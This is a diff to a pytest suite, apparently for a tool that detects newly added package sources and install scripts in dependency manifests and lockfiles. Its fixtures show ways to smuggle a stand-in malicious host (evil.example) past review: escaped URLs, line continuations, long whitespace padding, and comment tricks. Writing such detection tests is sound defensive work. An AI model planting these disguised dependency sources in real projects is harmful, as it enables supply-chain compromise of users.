@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import json
+import time
 
 import pytest
 from hypothesis import given
@@ -23,6 +24,12 @@ def toml(source: str, digest: str = SUM, version: str = "1") -> str:
     return f'[[package]]\nname = "a"\nversion = "{version}"\nsource = {source}\nchecksum = "{digest}"\n'
 
 
+MULTILINE = """[project]
+description = '''
+[project.urls]
+'''
+dependencies = ["x @ https://evil.example/x"]
+"""
 CRATES = '"registry+https://github.com/rust-lang/crates.io-index"'
 
 
@@ -55,6 +62,31 @@ CRATES = '"registry+https://github.com/rust-lang/crates.io-index"'
         ("nuget.config", "", '<add key="x" value="https://evil.example/v3/index.json" />\n', 1, "evil.example"),
         ("pom.xml", "", "<repositories>\n<repository><url>https://evil.example/m2</url>\n</repositories>\n", 2, "evil"),
         (".npmrc", "", "@scope:registry=https://evil.example/\n", 1, "evil.example"),
+        # Laid out otherwise, escaped, or named like what only tells about a package.
+        ("package-lock.json", "{}", '{"a": {"x": 1, "resolved": "https://evil.example/a.tgz"}}', 1, "evil.example"),
+        ("package-lock.json", "{}", '{"a": {\n"\\u0072esolved"\n:\n"https:\\/\\/evil.example/a.tgz"}}', 4, "evil"),
+        ("package-lock.json", "{}", '{"resolved": "https://evil.example/a.tgz"', 1, "evil.example"),
+        ("requirements.txt", "", "docs-helper @ https://evil.example/x.whl\n", 1, "evil.example"),
+        ("requirements.txt", "", " " * 5000 + "x @ https://evil.example/x.whl\n", 1, "evil.example"),
+        ("requirements.txt", "", "a==1\n--index-url https:\\\n//evil.example/simple\n", 2, "evil.example"),
+        ("requirements.txt", "", "# a comment \\\n--index-url https://evil.example/simple\n", 2, "evil.example"),
+        ("requirements.txt", "", "# a comment\r--index-url https://evil.example/simple\n", 1, "evil.example"),
+        ("Cargo.toml", "", '[dependencies]\nsupport = { git = "https://evil.example/x" }\n', 2, "evil.example"),
+        ("Cargo.toml", "", '[dependencies]\ndocs.git = "https://evil.example/x"\n', 2, "evil.example"),
+        ("pyproject.toml", "", '[project.optional-dependencies]\ndocs = ["x @ https://evil.example/x"]\n', 2, "evil"),
+        ("pyproject.toml", "", MULTILINE, 5, "evil.example"),
+        ("pyproject.toml", "", '[tool.uv.sources.urls]\nurl = "https\\u003a//evil.example/x"\n', 2, "evil.example"),
+        ("pyproject.toml", "", 'no TOML\nx = "https://evil.example/x"\n', 2, "evil.example"),
+        ("go.mod", "", "replace docs => github.com/e/docs v1\n", 1, "github.com/e/docs"),
+        ("pnpm-workspace.yaml", "", "catalog:\n  docs: https://evil.example/x.tgz\n", 2, "evil.example"),
+        ("pubspec.yaml", "", 'dependencies:\n  docs: {git: "https:\\x2f\\x2fevil.example/x"}\n', 2, "evil.example"),
+        ("Gemfile", "", "gem 'x',\n  source: 'https://evil.example'\n", 2, "evil.example"),
+        ("Gemfile", "", ";source 'https://evil.example'\n", 1, "evil.example"),
+        ("setup.cfg", "", "install_requires =\n  x@https://evil.example/x.whl\n", 2, "evil.example"),
+        ("x.csproj", "", "<Authors>me</Authors><RestoreSources>https://evil.example/v3</RestoreSources>\n", 1, "evil"),
+        ("nuget.config", "", '<!-- x --><add key="x" value="https&#58;//evil.example/v3" />\n', 1, "evil.example"),
+        ("pom.xml", "", "<repositories>\n<!-- </repositories> -->\n<url>https://evil.example/m2</url>\n", 3, "evil"),
+        ("pom.xml", "", "<properties><at>https://evil.example/m2</at></properties>\n", 1, "evil.example"),
     ],
 )  # fmt: skip
 def test_what_is_new(path: str, before: str, after: str, line: int, words: str) -> None:
@@ -80,6 +112,13 @@ def test_what_is_new(path: str, before: str, after: str, line: int, words: str) 
         ("uv.lock", toml('"x"'), toml('"x"', "b" * 64, version="2")),
         ("go.mod", "", "require github.com/a/b v1\nreplace a => ../a\n"),
         ("composer.lock", "{}", '{"packages": [{"dist": {"url": "https://api.github.com/repos/a/b/zipball/1"}}]}'),
+        ("pom.xml", "", "<!--\n<repositories><url>https://a.example</url></repositories>\n-->\n"),
+        ("pyproject.toml", "", '[tool.poetry]\nhomepage = "https://a.example"\n[tool.poetry.urls]\nX = "https://b.ex"\n'),
+        ("pyproject.toml", "", '# see https://a.example\n[project]\nname = "a"\n'),
+        ("x.csproj", "", "<PackageProjectUrl>https://a.example</PackageProjectUrl>\n"),
+        ("pubspec.yaml", "", "homepage: https://a.example\nissue_tracker: https://b.example\n"),
+        ("mix.exs", "", '  source_url: "https://github.com/me/mine",\n  @source_url "x"\n'),
+        ("deno.jsonc", "", "// see https://a.example\n"),
         ("pom.xml", "", '<project xmlns="http://maven.apache.org/POM/4.0.0">\n<url>https://a.example</url>\n'),
     ],
 )  # fmt: skip
@@ -107,7 +146,9 @@ def test_what_another_file_of_the_base_names_is_known() -> None:
             ["script prepare"],
         ),
         ("package.json", '{"scripts": {"prepare": "husky"}}', '{"scripts": {}}', []),
-        ("a/package.json", "{}", '{"pnpm": {"onlyBuiltDependencies": ["x"]}}', ["onlybuiltdependencies"]),
+        ("a/package.json", "{}", '{"pnpm": {"onlyBuiltDependencies": ["x"]}}', ["onlyBuiltDependencies"]),
+        ("package.json", "{}", '{"scripts": {"postinstall": "x"}, "Scripts": {}}', ["script postinstall"]),
+        ("package.json", "{}", '{"trustedDependencies": ["x"], "TrustedDependencies": []}', ["trustedDependencies"]),
         ("package.json", "{}", "{no json", ["script install"]),
         ("composer.json", "{}", '{"scripts": {"post-install-cmd": "x", "test": "y"}}', ["script post-install-cmd"]),
         ("pyproject.toml", "", '[build-system]\nbackend-path = ["."]\n', ["build-system backend-path"]),
@@ -125,6 +166,16 @@ def test_any_text_is_answered(before: str, after: str, path: str) -> None:
     assert all(one.line >= 1 and one.what for one in new_sources(path, before, after))
     assert new_sources(path, after, after) == ()
     assert all(one.line >= 1 for one in new_scripts(path, before, after))
+
+
+@pytest.mark.parametrize("piece", ["a.", "<!--", '"a', "\\", "a://", " ", "[", "'"])
+@pytest.mark.parametrize("path", ["pyproject.toml", "pom.xml", "requirements.txt", "package-lock.json"])
+def test_hostile_files_cost_little(path: str, piece: str) -> None:
+    text = piece * (60_000 // len(piece))
+    began = time.process_time()
+    new_sources(path, "", text)
+    new_scripts(path, "", text)
+    assert time.process_time() - began < 1
 
 
 def test_which_are_written_by_machines() -> None:
